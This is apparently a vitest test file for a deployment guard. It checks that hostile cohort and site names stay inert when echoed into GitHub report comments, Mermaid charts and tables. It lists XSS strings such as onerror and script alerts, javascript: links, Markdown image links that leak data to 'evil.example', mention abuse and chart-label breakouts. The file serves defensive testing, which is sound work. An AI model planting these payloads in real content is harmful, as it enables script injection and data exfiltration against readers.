import { expect, it } from 'vitest';
import { linksIn } from '../acceptance/scenario.ts';
import { foreignNodes, nodesOf } from '../report/markdown.ts';
import { judge, ofCohorts, ofSites } from './support.ts';

/* Names that would be markup in a comment. That nothing in it is live is held of every run. */

const UNKNOWN = { verdict: 'deny', gate: 'closed', codes: expect.arrayContaining(['cohort.unknown']) };
const OUTSIDE = { verdict: 'deny', codes: expect.arrayContaining(['site.outside-cohort']) };

// Html: Names hold HTML: they close our folded parts so that findings hide in others, open comments that swallow the rest, or paint over it.
// Origin: OWASP, "HTML Injection" (WSTG-CLNT-03); GitHub renders part of HTML in comments (GitHub Flavored Markdown, 6.11).
it('html: it is text: our own folds stay as many as they are, and the findings in sight', async () => {
  const html = [
    ['</details>', '<details><summary>All is well</summary>', '<!--', '-->', '<script>alert(1)</script>', '<?php'],
    ['<img src=x onerror=alert(1)>', '<style>*{display:none}</style>', '&lt;b&gt;', '<![CDATA[', '</code></pre>'],
    ['<a href="https://evil.example">x</a>', '<sub>', '<h1>'],
  ].flat();
  const run = await judge(ofCohorts(html));
  expect(run).toMatchObject(UNKNOWN);
  const comment = run.own.comment();
  const lines = comment.split('\n');
  expect(lines.filter((line) => line.startsWith('<details')).length).toBe(
    lines.filter((line) => line === '</details>').length,
  );
  expect(lines.filter((line) => line.startsWith('<!--'))).toEqual(['<!-- cohort-guard -->']);
  expect(comment).toContain('`<script>alert(1)</script>`');
});

// Images: Names hold images and links of Markdown: whoever opens the comment tells a stranger's server so, with whatever the address carries.
// Origin: CVE-2025-32711 (EchoLeak) and the class "Markdown image exfiltration"; web bugs in comments.
it('images: they fetch nothing and lead nowhere', async () => {
  const images = [
    ['![x](https://evil.example/p.png?d=1)', '![x][y]', '[y]: https://evil.example/p.png', '](https://evil.example)'],
    ['<img src="https://evil.example/p.png">', '[a](javascript:alert(1))', '<https://evil.example>', '[^1]', '[^1]: x'],
    ['`![x](https://evil.example/p.png)`', '``` ![x](https://evil.example/p.png)'],
  ].flat();
  const run = await judge(ofSites(images));
  expect(run).toMatchObject({ ...OUTSIDE, sites: images.length });
  // Our own link to the run is the only one there is.
  const nodes = foreignNodes(run.own.comment(), linksIn(run.own.world));
  expect(nodes.filter((node) => /^(?:link|image|definition|footnote)/.test(node.type))).toEqual([]);
  expect(run.own.comment()).toContain('evil.example');
  // The reader that this is held against does see such an image.
  expect(nodesOf(images[0] ?? '').map((node) => node.type)).toContain('image');
});

// Length: Texts so long that GitHub would refuse the comment and the check: a verdict that nobody can see, and an earlier, greener one that stays.
// Origin: GitHub's API, "body is too long (maximum is 65536 characters)", which many commenting actions have met.
it('length: what is too long is cut, counted and published, and the record keeps all of it', async () => {
  // Nearly twice what a comment holds, and less than the 128 KB of a manifest.
  const cohorts = Array.from({ length: 80 }, (_, index) => `${String(index)}${'|`'.repeat(700)}`);
  const path = `deploy/template-manager/${'\u0301'.repeat(60)}${'x'.repeat(150)}`;
  const changes = Object.fromEntries(cohorts.map((_, index) => [`${path}${String(index)}`, 'x\n']));
  const run = await judge({ ...ofCohorts(cohorts), title: 'T'.repeat(60_000), changes });
  expect(run).toMatchObject(UNKNOWN);
  expect(run.own.comment().length).toBeLessThanOrEqual(65_536);
  expect(run.own.check().text?.length ?? 0).toBeLessThanOrEqual(65_535);
  expect(run.own.check().conclusion).toBe('FAILURE');
  expect(run.own.comment()).toContain('…(+');
  const finding = run.judgement.findings.find((each: { code: string }) => each.code === 'cohort.unknown');
  expect(finding.evidence.names).toHaveLength(80);
});

// Mentions: Names that would call people, refer to issues or close them, once the report repeats them in a comment of ours.
// Origin: GitHub Docs, "Mentioning people and teams" and "Autolinked references": any comment that holds them notifies and links.
it('mentions: they are shown as values and call nobody', async () => {
  const calls = [
    ['@alice', '@acme/everybody', 'fixes #1', 'GH-1', 'acme/rollout#1', `acme/rollout@${'0123456789abcdef'.repeat(2)}`],
    ['0123456789abcdef0123456789abcdef01234567', ':tada:', 'https://evil.example/', 'www.evil.example'],
    ['mallory@evil.example', 'http://[::1]/'],
  ].flat();
  const run = await judge({ ...ofCohorts(calls), title: calls.join(' ') });
  expect(run).toMatchObject({ ...UNKNOWN, cohorts: calls.toSorted() });
  const comment = run.own.comment();
  // Every line of prose without its code spans and our own link to the run.
  const prose = comment
    .replaceAll(/```[^]*?```/g, '')
    .replaceAll(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '')
    .replace(`[Workflow run](${linksIn(run.own.world).run})`, '');
  expect(prose).not.toMatch(/@[a-z]|#\d|GH-\d|:tada:|https?:|www\.|[0-9a-f]{40}/);
  expect(comment).toContain('`@acme/everybody`');
});

// Mermaid: A cohort's name breaks out of its label in the chart: it draws other nodes, sets styles and clicks, or turns the chart into an error that hides the reach.
// Origin: mermaid-js/mermaid issue 847 (script by labels and clicks); CVE-2025-54881 (labels taken as HTML).
it('mermaid: it stays a label', async () => {
  const labels = [
    ['a"]', 'x"] --> evil["owned', '%%{init: {"securityLevel":"loose"}}%%', 'click c0 "https://evil.example"', 'end'],
    ['subgraph x', '<img src=x onerror=alert(1)>', '$$\\href{javascript:alert(1)}{x}$$', '#35;', '```'],
  ].flat();
  const run = await judge(ofCohorts(labels));
  expect(run).toMatchObject(UNKNOWN);
  const lines = (/```mermaid\n([^]*?)\n```/.exec(run.own.comment())?.[1] ?? '').split('\n');
  const nodes = lines.filter((line) => /^ {2}c\d+\[/.test(line));
  expect(nodes.length).toBeGreaterThanOrEqual(10);
  for (const node of nodes) expect(node.replaceAll(/#\d+;|<br\/>/g, '')).toMatch(/^ {2}c\d+\["[A-Za-z0-9 ,·✓✗]*"\]$/);
  for (const line of lines)
    expect(line).toMatch(/^(?:%%\{init: \{"flowchart"|flowchart LR$| {2}(?:release|c\d+|classDef|class|linkStyle))/);
});

// Table: Names hold pipes, backslashes and line ends: they break a table of the report, so that an offending site slides out of its row or fakes another one.
// Origin: GitHub Flavored Markdown 4.10: a pipe splits cells even within code; CVE-2020-5238 (cmark-gfm tables).
it('table: every row has its columns, every site its row', async () => {
  const cells = [
    ['a | b', '|', '||||', '\\|', '\\\\|', '`|`', '| R1 | allowed | yes |', 'x\n| --- | --- |\n| R1 | fine |'],
    ['\u00A6', '|'.repeat(150), '`'.repeat(20), '\\'],
  ].flat();
  const run = await judge(ofSites(cells));
  expect(run).toMatchObject({ verdict: 'deny', sites: cells.length });
  const rows = run.own
    .comment()
    .split('\n')
    .filter((line) => line.startsWith('| '));
  for (const index of cells.keys())
    expect(rows.filter((line) => new RegExp(`S${String(index)}(?!\\d)`).test(line)).length).toBeGreaterThanOrEqual(1);
  expect(run.judgement.offendingSites).toHaveLength(cells.length);
});
